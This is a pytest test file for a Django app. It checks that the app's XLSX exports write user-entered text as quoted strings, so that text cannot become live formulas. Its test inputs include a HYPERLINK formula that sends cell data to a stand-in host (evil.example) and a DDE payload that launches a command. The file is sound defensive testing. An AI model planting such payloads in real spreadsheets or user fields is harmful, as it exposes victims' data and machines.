"""Every XLSX export writes user text as text: a hostile text never becomes a formula.

Each export gets a text starting with a formula character where a user can type
it (a work item's title, a report's shortcomings, a unit's name, a roster
entry's explanation); the only formulas in the file are the exporter's own
(``=SUM``, ``=IF``).
"""

from __future__ import annotations

import io
from datetime import date

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from theodoi.testing import make_criteria_set, make_roster_entry, make_work_item

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
OWN_FORMULAS = ("=SUM(", "=IF(", "=0")


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_text_only(data: bytes, hostile: str) -> None:
    cells = _cells(data)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert all(str(f).startswith(OWN_FORMULAS) for f in formulas), formulas
    holding = [c for c in cells if isinstance(c.value, str) and hostile in c.value]
    assert holding, f"{hostile!r} is not in the export"
    for cell in holding:
        assert cell.data_type == "s"
        if cell.value.startswith(hostile):
            assert cell.quotePrefix


@pytest.mark.parametrize("hostile", HOSTILE)
def test_plan_table(world, hostile):
    from theodoi.plans.importer import export_table
    from theodoi.testing import make_plan

    plan = make_plan(world)
    make_work_item(plan, lead=world.bdv, title=hostile)
    _assert_text_only(export_table(plan), hostile)


def test_consolidated_annex(world):
    from theodoi.reporting import actions, consolidation
    from theodoi.reporting.tests.conftest import Setup

    hostile = HOSTILE[0]
    setup = Setup(world)
    report = actions.do_start_report(setup.h1, world.bdv)
    with time_machine.travel(date(2018, 7, 9)):
        actions.do_submit_report(
            report,
            by=world.agency,
            data={
                setup.item1.pk: {
                    "status": "overdue",
                    "percent": 60,
                    "results": "Chậm",
                    "shortcomings": hostile,
                    "proposals": HOSTILE[3],
                    "budget_spent": 3_000_000,
                },
            },
        )
    data = consolidation.to_xlsx(consolidation.build(setup.h1))
    _assert_text_only(data, hostile)
    _assert_text_only(data, HOSTILE[3])
    formulas = [c.value for c in _cells(data) if c.data_type == "f"]
    assert any(f.startswith("=SUM(") for f in formulas)
    assert any(f.startswith("=IF(") for f in formulas)


def test_rankings(world, settings):
    from theodoi.tuyenvan import documents, results
    from theodoi.tuyenvan.tests.helpers import fill, hold_meeting

    settings.THEODOI_TODAY = date(2018, 4, 2)
    make_criteria_set(world)
    hostile = HOSTILE[1]
    world.commune1a.name = hostile
    world.commune1a.save(update_fields=["name"])
    march = date(2018, 3, 1)
    hold_meeting(world.commune1a, world.commune, month=march)
    fill(world.commune1a, "district", world.district, month=march)
    data = documents.rankings_xlsx(world.province, results.parse_period("2018-03"), "commune")
    _assert_text_only(data, hostile)


def test_roster(client, world):
    hostile = HOSTILE[2]
    entry = make_roster_entry(world.province, world.commune1a, world.official, date(2018, 7, 10))
    entry.explanation = hostile
    entry.save(update_fields=["explanation"])
    client.force_login(world.coordinator)
    response = client.get(reverse("tuyenvan_people:roster-xlsx", args=[entry.round_id]))
    assert response.status_code == 200
    _assert_text_only(response.content, hostile)


def test_no_exporter_writes_a_cell_itself():
    """Cells are written by theodoi.documents.xlsx only (write_cell, write_formula)."""
    import re
    from pathlib import Path

    package = Path(__file__).resolve().parents[2]
    direct = re.compile(
        r"\.value\s*=(?!=)|\.cell\([^)]*\bvalue\s*=|\b(ws|sheet|worksheet)\.append\("
    )
    offenders = []
    for path in package.rglob("*.py"):
        if "tests" in path.parts or path.parent.name == "documents":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text and "documents.xlsx" not in text:
            continue
        offenders += [
            f"{path.relative_to(package)}:{number}"
            for number, line in enumerate(text.splitlines(), 1)
            if direct.search(line)
        ]
    assert offenders == []
    # The guard sees what it guards against.
    assert direct.search("ws.cell(r, 8).value = f'=IF(B{r}=0,0,1)'")
